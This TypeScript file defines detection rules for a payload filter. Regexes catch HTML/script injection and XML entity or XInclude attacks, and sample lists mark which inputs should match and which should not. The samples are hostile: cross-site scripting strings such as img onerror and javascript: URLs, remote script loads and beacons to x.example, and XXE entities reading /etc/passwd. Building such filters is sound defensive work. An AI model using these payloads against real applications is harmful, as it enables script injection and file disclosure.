import type { PayloadRule } from "./payload-rule.ts";

/** What becomes a part of a page or a document that a value is put into. */
export const markupRules: readonly PayloadRule[] = [
  {
    id: "html",
    patterns: [
      /<\s{0,4}\/?\s{0,4}(?:[a-z]+:)?(?:script|iframe|frame(?:set)?|embed|object|applet|svg|math|meta|link|base|form|input|button|textarea|select|keygen|isindex|video|audio|source|img|image|body|html|style|marquee|bgsound|xml|xss|layer|ilayer|animate\w*|set|import|details|dialog|template|noscript|listener|handler|x)\b(?![\w-]*\s{0,4}>?\s{0,4}$)/i,
      /<\s{0,4}\/?\s{0,4}(?:script|iframe|svg|embed|object|style|body|meta|base|form|applet|frameset|xml|xss)\b/i,
      /<[a-z!?/%][^<>]{0,400}?[\s"'/]+(?:on[a-z]{3,24}|style|href|src|srcdoc|action|formaction|xlink:href|data|background|poster|dynsrc|lowsrc|xmlns|http-equiv|implementation)\s{0,4}=/i,
      /(?:^|[\s"'`/<>\d;,(){}\0\v])on(?:abort|activate|after\w+|anim\w+|auxclick|before\w+|begin|blur|bounce|can\w+|cell\w+|change|click|close|context\w+|copy|cue\w+|cut|data\w+|dblclick|deactivate|drag\w*|drop|duration\w+|emptied|end\w*|error|fil\w+|finish|focus\w*|form\w+|fullscreen\w*|hash\w+|help|input|invalid|key\w+|lay\w+|load\w*|lose\w+|media\w+|message|mouse\w+|move\w*|offline|online|outofsync|page\w+|paste|pause|play\w*|pointer\w+|popstate|progress|property\w+|rate\w+|ready\w+|repeat|reset|resize\w*|resume|reverse|row\w+|scroll\w*|search|seek\w*|select\w*|show|sort|start|stop|storage|submit|suspend|syncrestored|time\w*|toggle|touch\w+|track\w+|transition\w+|undo|unload|url\w+|volume\w+|wait\w*|wheel)[\s\0/]{0,8}=/i,
      /(?:j[\s\0\\/&;#\w]{0,12}a[\s\0\\/&;#\w]{0,12}v[\s\0\\/&;#\w]{0,12}a|v\s{0,3}b|live)\s{0,4}(?:s|&tab;|&#x?0*(?:9|10|13|a|d);|\\)[\s\\\0&;#\w]{0,4}c?[\s\0\\]{0,4}r[\s\0\\]{0,4}i[\s\0\\]{0,4}p[\s\0\\]{0,4}t[\s\0]{0,4}(?::(?!\s[A-Za-z]{1,20}\s[A-Za-z])|&colon;|&#x?0*(?:58|3a);?|&#\d+)|(?:java|vb)script\s{0,4}:(?!\s{1,4}[A-Za-z]{1,20}\s[A-Za-z]|\s{0,4}$)/i,
      /\bdata:\s{0,4}(?:text\/\w|image\/svg|application\/(?:xhtml\+)?xml|application\/(?:x-)?(?:java|ecma)script|,\S)|expression\s{0,4}\(|-moz-binding|\bbehavior\s{0,4}:\s{0,4}url|@import\s|\bbackground(?:-image)?\s{0,4}:\s{0,4}url|\bstyle\s{0,4}=\s{0,4}(?:["']|[a-z-]{1,24}:)|<!--#\w|<\/?esi:\w|<!\[CDATA\[|\bsrcdoc\s{0,4}=|<!doctype|\+ADw-|\bxlink:href\b/i,
      /\b(?:document|window|self|top|parent|this|location|frames)\s{0,4}(?:\/\*[^*]{0,40}\*\/\s{0,4})?[.[]\s{0,4}(?:\/\*[^*]{0,40}\*\/\s{0,4})?['"]?(?:cookie|location|write(?:ln)?|domain|query\w|append\w|forms\b\s?[[.]|scripts\b\s?[[.]|eval|alert|open|name|referrer|body|create\w+|get\w+|href|local\w+|history|defaultView)|\b(?:alert|confirm|prompt|eval)(?:\(|\s{0,4}(?:`|&lpar;|\/\*|\(\s{0,4}(?:["'`\d)/.[]|document|window|this|self|top|name\b|location|atob|\w{1,20}\()))|\b(?:fetch|atob|btoa|import)\(\s{0,4}["'`\w]|\bimport\s{0,4}\(\s{0,4}["'`]|\b(?:alert|confirm|prompt)\b.{0,20}\.(?:call|apply)|\[['"]?(?:alert|eval|constructor)/i,
      /\.(?:parentNode|innerHTML|outerHTML|insertAdjacentHTML|srcdoc|nodeValue)\b|^\s{0,4}-->|["'>]\s{0,4}-->|<!--(?=["'>]|\s{0,4}$)|["'`]\s{0,4}[-+;*/%|&^({]{1,3}\s{0,4}\w{1,30}(?:\.\w{1,30}){1,4}\s{0,4}=|@charset\b|\bmhtml:|\burl\s{0,4}\(\s{0,4}["']?\s{0,4}(?:javascript|data|vbscript):|\bset(?:Timeout|Interval|Immediate)\s{0,4}\(|\b(?:alert|confirm|prompt|eval|print)\s{0,4}[)\]]\s{0,4}\(|\b(?:this|self|top|parent|frames|window|document|globalThis)\s{0,4}\[\s{0,4}['"`/]|\.(?:constructor|sort|map|find|forEach|concat)\s{0,4}[.(]\s{0,4}(?:constructor|alert|call|apply|eval)\b|\\(?:u0*3c|x3c|74|164)\s?\/?\w|^[^<]{0,40}["'][^<?]{0,40}\/?>\s{0,4}<\w/i,
      /["'`/<]\s{0,4}on[a-z]{4,45}\s{0,4}=|<[a-z](?:\s[a-z]){3,12}(?![a-z])|<style\b|\bhref\s{0,4}=\s{0,4}["'/#\w]|\bsrc\s{0,4}=\s{0,4}(?:["'/]|https?:|data:)|<[^\w\s<>!?/=-]{1,4}(?:script|img|svg|iframe)\b|\bdatasrc\s{0,4}=/i,
      /[\u00bc\u2039\uff1c]\s?\/?script|\\(?:u003c|x3c)\s?\/?\w|&lt;?\s?\/?(?:script|img|svg|iframe)|%3c\s?\/?(?:script|img|svg|iframe)/i,
      // What only scripts of pages speak to, and functions that are handed on instead of called.
      /\b(?:opener|navigator|localStorage|sessionStorage|indexedDB|Reflect|importScripts|postMessage|sendBeacon)(?:\(|\[|\.\w{2,30}\s{0,2}[(=[;])|\bnew\s{1,4}(?:XMLHttpRequest|WebSocket|Image|EventSource|Worker|SharedWorker)\s?[(;.]|\$\.(?:getScript|ajax|getJSON|globalEval|get|post)\(|\$\(\s{0,2}['"][^'"]{0,40}['"]\s{0,2}\)\s{0,2}\.|\b(?:parent|top|window)\s{0,2}\.\s{0,2}frames\b|[=,]\s{0,4}(?:alert|eval|confirm|prompt)\s{0,4}[;,}]/i,
    ],
    examples: {
      payloads: [
        "<script>alert(1)</script>",
        "navigator.sendBeacon('//x.example')",
        "x=alert;x(1)",
        '"><img src=x onerror=alert(1)>',
        "javascript:alert(1)",
        "<svg/onload=alert(1)>",
        "'onmadeup=x",
        "<label datasrc=data>",
        '<!--#fsize file="a" -->',
        "<esi:vars name=x/>",
        "a.innerHTML=b",
        "{onerror=alert}throw 1",
        "import('//x.example/a.js')",
        "href=//x.example",
        "document.querySelector('a')",
        "'+a.b=c+'",
        "-->x",
      ],
      harmless: [
        "a < b and c > d",
        "<name>",
        "script",
        "on time = always",
        "C++ <vector>",
        "I love JavaScript",
        "a --> b",
        "set timeout (ms)",
        "JavaScript: The Good Parts",
        "style=bold",
        "alert (high)",
        "Navigator 2.0",
        "the opener (second act)",
        "level=alert",
        "<!-- note -->",
      ],
    },
  },
  {
    id: "xml",
    patterns: [
      /<!(?:ENTITY|ELEMENT|ATTLIST|NOTATION)\s|<\/?(?:saml2?p?|soap(?:-?env)?|wsse|xsl|ds|xenc):\w|<!DOCTYPE[^>]{0,300}(?:\[|SYSTEM|PUBLIC)|\bxi:include\b|["']\s{0,4}(?:https?:)?[\w./]{0,40}\/XInclude\b|\bxmlns:xi\s{0,4}=|%\w{1,40};\s{0,4}\]>/i,
      // A document, or what goes on in one behind the end of its element.
      /\?>\s{0,8}<[^\s<>]|<\/[\w:.-]{1,40}>\s{0,8}<\/?[a-z_]|\]\]>\s{0,8}</i,
    ],
    examples: {
      payloads: [
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        "<!ENTITY % p SYSTEM 'http://x'>",
        '<xi:include href="file:///x"/>',
        "</name><role>admin</role><name>",
        '"1.0"?><a b="c"/>',
      ],
      harmless: ["entity", "<a>b</a>", "SYSTEM", "doctype html", "xinclude", "50%"],
    },
  },
];
